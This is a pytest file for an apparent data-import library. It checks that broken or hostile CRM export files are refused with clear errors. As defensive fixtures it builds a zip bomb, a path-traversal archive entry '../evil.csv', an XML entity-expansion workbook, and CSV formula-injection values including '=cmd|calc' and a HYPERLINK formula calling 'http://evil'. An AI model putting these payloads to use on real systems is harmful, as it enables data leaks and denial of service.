"""Files that are not what they should be: each ends in an error that says where, what, and what to do."""

# ruff: noqa: E501  (a case is not cut in two)

from __future__ import annotations

import gzip
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from bonafides.errors import BonafidesError, BrokenContract, UnreadableInput, WrongRequest
from bonafides.sources import ImportOptions, read_sources

HEADER = "Deal ID,Deal Name,Stage,Amount,Close Date,Probability\n"
ROWS = "1,Acme,Proposal,100,2026-04-30,40\n2,Beta,Closed Won,50,2026-03-15,100\n"
CURRENT = ImportOptions(kind="current")


def read(path: Path, tmp_path: Path) -> BonafidesError:
    with pytest.raises(BonafidesError) as caught:
        read_sources([path], tmp_path / "out", options=CURRENT)
    assert not (tmp_path / "out").exists()
    assert caught.value.expected
    assert caught.value.remedy
    assert path.name in caught.value.found
    return caught.value


def written(tmp_path: Path, content: bytes | str, name: str = "deals.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def test_an_empty_file_says_so(tmp_path: Path) -> None:
    error = read(written(tmp_path, b""), tmp_path)
    assert isinstance(error, UnreadableInput)
    assert "empty" in error.found


def test_a_file_of_blanks_is_no_better(tmp_path: Path) -> None:
    assert "nothing but blanks" in read(written(tmp_path, b"\n \n\t\n"), tmp_path).found


def test_a_header_without_rows_says_so(tmp_path: Path) -> None:
    assert "no row" in read(written(tmp_path, HEADER), tmp_path).found


def test_a_file_cut_off_in_a_record_names_line_and_column(tmp_path: Path) -> None:
    error = read(written(tmp_path, HEADER + ROWS + "3,Gamma,Prop"), tmp_path)
    assert "line 4" in error.found
    assert "column Amount" in error.found


def test_a_file_cut_off_in_a_quotation_names_line_and_column(tmp_path: Path) -> None:
    error = read(written(tmp_path, HEADER + ROWS + '3,"Gamma and'), tmp_path)
    assert "line 4, column Deal Name" in error.found
    assert "never closes" in error.found


def test_a_file_without_a_final_newline_is_whole(tmp_path: Path) -> None:
    path = written(tmp_path, HEADER + ROWS.rstrip("\n"))
    assert read_sources([path], tmp_path / "out", options=CURRENT).counts["deals"] == 2


def test_binary_content_names_the_byte(tmp_path: Path) -> None:
    error = read(written(tmp_path, HEADER.encode() + b"1,A\x00\x01\x02,b,1,2026-01-01,3\n"), tmp_path)
    assert "binary" in error.found
    assert f"byte {len(HEADER) + 3}" in error.found
    assert "line 2" in error.found


@pytest.mark.parametrize(
    ("start", "word"),
    [
        (b"PK\x03\x04abc", "zip"),
        (b"%PDF-1.7\n", "PDF"),
        (b"PAR1abc", "Parquet"),
        (b"\xd0\xcf\x11\xe0", "xls"),
    ],
)
def test_another_kind_of_file_under_a_csv_name_is_called_by_its_kind(
    tmp_path: Path, start: bytes, word: str
) -> None:
    assert word in read(written(tmp_path, start), tmp_path).found


def test_a_web_page_in_place_of_an_export_is_recognised(tmp_path: Path) -> None:
    assert "web page" in read(written(tmp_path, "<html><body>Sign in</body></html>"), tmp_path).found


def test_windows_1252_is_read_and_said(tmp_path: Path) -> None:
    path = written(tmp_path, (HEADER + ROWS.replace("Acme", "Müller & Söhne – Köln")).encode("cp1252"))
    summary = read_sources([path], tmp_path / "out", options=CURRENT)
    assert any("Windows-1252" in note for note in summary.notes)
    assert summary.counts["deals"] == 2


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_other_encodings_give_the_same_deals(tmp_path: Path, encoding: str) -> None:
    import duckdb

    path = written(tmp_path, (HEADER + ROWS.replace("Acme", "Zürich ✓")).encode(encoding))
    read_sources([path], tmp_path / "out", options=CURRENT)
    titles = duckdb.sql(f"SELECT title FROM '{tmp_path}/out/deals.parquet' ORDER BY deal_id").fetchall()
    assert titles == [("Zürich ✓",), ("Beta",)]


def test_two_encodings_in_one_file_name_line_and_byte(tmp_path: Path) -> None:
    mixed = (
        HEADER.encode()
        + "1,Müller,Proposal,1,2026-04-30,40\n".encode()
        + b"2,M\xfcller,Proposal,1,2026-04-30,4\n"
    )
    error = read(written(tmp_path, mixed), tmp_path)
    assert "line 3" in error.found
    assert f"byte {mixed.index(bytes([0xFC])):,}" in error.found
    assert "0xfc" in error.found


def test_a_truncated_gzip_file_is_refused(tmp_path: Path) -> None:
    whole = gzip.compress((HEADER + ROWS * 5000).encode())
    assert (
        "not a whole gzip"
        in read(written(tmp_path, whole[: len(whole) // 2], "deals.csv.gz"), tmp_path).found
    )


@pytest.mark.parametrize("kind", [None, "hubspot", "pipedrive"])
def test_json_that_is_cut_off_is_unreadable_and_not_unrecognised(tmp_path: Path, kind: str | None) -> None:
    """The second line ends after 14 characters, in the middle of a name."""
    path = written(tmp_path, '[{"id": 7, "title": "A", "stage_id": 1},\n {"id": 8, "ti', "things.json")
    with pytest.raises(UnreadableInput) as caught:
        read_sources([path], tmp_path / "out", options=ImportOptions(kind=kind))
    assert caught.value.exit_code == 3
    assert "things.json is not whole JSON: unexpected end in line 2, byte 1" in caught.value.found


def test_a_truncated_zip_archive_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("deals.csv", HEADER + ROWS)
    path.write_bytes(path.read_bytes()[:-30])
    assert "not a whole zip" in read(path, tmp_path).found


def test_a_zip_bomb_is_stopped_while_it_swells(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("deals.csv", "w") as out:
        for _ in range(256):
            out.write(b"0" * 2**20)
    began = time.process_time()
    assert "swells" in read(path, tmp_path).found
    assert time.process_time() - began < 30


def test_an_archive_inside_an_archive_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("inner.zip", b"PK")
    assert "archive inside an archive" in read(path, tmp_path).found


def test_an_archive_that_reaches_outside_itself_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../evil.csv", HEADER + ROWS)
    assert "outside its archive" in read(path, tmp_path).found
    assert not (tmp_path.parent / "evil.csv").exists()


def test_a_workbook_that_swells_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    path = tmp_path / "deals.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<a>" + b"0" * (64 * 2**20))
    assert "swells" in read(path, tmp_path).found


def test_a_workbook_with_too_many_shared_texts_is_refused_before_they_are_read(tmp_path: Path) -> None:
    """Seventy million bytes of texts that do not compress too well to be believed."""
    path = tmp_path / "deals.xlsx"
    texts = b"".join(b"<si><t>%08x</t></si>" % (place * 2654435761 % 2**32) for place in range(2**16))
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/sharedStrings.xml", "w") as part,
    ):
        for _ in range(48):
            part.write(texts)
    began = time.process_time()
    found = read(path, tmp_path)
    assert "xl/sharedStrings.xml" in found.found
    assert "CSV" in found.remedy
    assert time.process_time() - began < 5


def test_a_workbook_with_expanding_entities_is_refused(tmp_path: Path) -> None:
    whole = tmp_path / "whole.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Deal ID", "Stage", "Amount"])
    book.active.append(["1", "Open", 5])
    book.save(whole)
    path = tmp_path / "deals.xlsx"
    bomb = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w") as new:
        for one in old.namelist():
            new.writestr(one, bomb if one == "xl/workbook.xml" else old.read(one))
    assert isinstance(read(path, tmp_path), UnreadableInput)


def test_an_archive_that_only_calls_itself_a_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "deals.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    assert "not a whole Excel workbook" in read(path, tmp_path).found


def test_half_a_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "deals.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Deal ID", "Stage", "Amount"])
    book.save(path)
    path.write_bytes(path.read_bytes()[:2000])
    assert "not a whole Excel workbook" in read(path, tmp_path).found


def test_half_a_parquet_file_is_refused(tmp_path: Path) -> None:
    import duckdb

    path = tmp_path / "deals.parquet"
    duckdb.sql(f"COPY (SELECT 1 AS id) TO '{path}' (FORMAT parquet)")
    path.write_bytes(path.read_bytes()[:-10])
    assert "not a whole Parquet" in read(path, tmp_path).found


def test_a_path_that_does_not_exist_is_a_wrong_request(tmp_path: Path) -> None:
    assert isinstance(read(tmp_path / "absent.csv", tmp_path), WrongRequest)


def test_a_column_of_another_language_of_dates_is_refused_whole(tmp_path: Path) -> None:
    mapping = tmp_path / "m.toml"
    mapping.write_text(
        '[[files]]\nfile = "changes.csv"\ntable = "outcomes"\n[files.columns]\n'
        'deal_id = "id"\nhappened_at = "when"\nresult = { value = "won" }\n'
    )
    path = written(tmp_path, "id,when\n1,yesterday\n2,tomorrow\n", "changes.csv")
    with pytest.raises(BrokenContract, match=r"column when: none of 2 values"):
        read_sources([path], tmp_path / "out", options=ImportOptions(mapping=mapping))


def test_a_formula_is_kept_as_text_and_written_so_that_no_spreadsheet_runs_it(tmp_path: Path) -> None:
    import duckdb

    formula = '=HYPERLINK("http://evil"&A1)'
    rows = (
        '1,"=cmd|calc",Proposal,"=1+1",2026-04-30,40\n'
        f'2,"{formula.replace(chr(34), chr(34) * 2)}",X,5,@SUM,4\n'
    )
    path = written(tmp_path, HEADER + rows)
    summary = read_sources([path], tmp_path / "out", options=CURRENT)
    titles = duckdb.sql(f"SELECT title FROM '{tmp_path}/out/deals.parquet' ORDER BY deal_id").fetchall()
    assert titles == [("=cmd|calc",), (formula,)]
    found = (tmp_path / "out" / "rejects.csv").read_text()
    assert "'=1+1" in found
    assert "'@SUM" in found
    assert any("formula" in note for note in summary.notes)


def test_a_line_of_two_gigabytes_is_refused_without_hanging_and_in_little_memory(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    with path.open("wb") as out:
        out.write(HEADER.encode())
        out.write(b"x" * (40 * 2**20))
        out.truncate(2 * 2**30)
    code = textwrap.dedent(
        f"""
        from pathlib import Path
        from bonafides.errors import UnreadableInput
        from bonafides.sources import ImportOptions, read_sources
        try:
            read_sources([Path({str(path)!r})], Path({str(tmp_path / "out")!r}),
                options=ImportOptions(kind="current"))
        except UnreadableInput as error:
            print(error.found)
            # Of this process alone: what getrusage tells includes the parent's size before exec.
            peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))
            print(int(peak.split()[1]) // 1024)
        """
    )
    began = os.times()
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=240)
    ended = os.times()
    worked = ended.children_user + ended.children_system - began.children_user - began.children_system
    path.unlink()
    found, megabytes = ran.stdout.splitlines()
    assert "line 2 runs on" in found
    assert worked < 30  # no hang; how fast is for the benchmarks
    assert int(megabytes) < 500


def test_unusable_records_are_listed_with_their_line_and_the_rest_is_read(tmp_path: Path) -> None:
    content = (
        HEADER
        + '1,"two\nlines",Proposal,1,2026-04-30,40\n2,short\n3,Ok,Proposal,1,2026-04-30,40\n,No id,P,1,2026-04-30,4\n'
    )
    summary = read_sources([written(tmp_path, content)], tmp_path / "out", options=CURRENT)
    assert summary.counts["deals"] == 2
    rejects = (tmp_path / "out" / "rejects.csv").read_text().splitlines()
    assert rejects[0] == "file,record,line,column,found,expected,remedy,action"
    assert any(line.startswith("deals.csv,2,4,") and "row left out" in line for line in rejects)
    assert any(line.startswith("deals.csv,4,") and "Deal ID" in line for line in rejects)


def test_the_connection_reads_nothing_but_the_source(tmp_path: Path) -> None:
    import duckdb

    from bonafides.sources.reading import open_source

    secret = tmp_path / "elsewhere" / "secret.csv"
    secret.parent.mkdir()
    secret.write_text("a\n1\n")
    inside, work = tmp_path / "in", tmp_path / "work"
    inside.mkdir()
    work.mkdir()
    raw = open_source([written(inside, HEADER + ROWS)], workdir=work)
    with pytest.raises(duckdb.PermissionException):
        raw.con.execute(f"SELECT * FROM read_csv('{secret}')")
    with pytest.raises(duckdb.Error):
        raw.con.execute("INSTALL httpfs")
    raw.close()
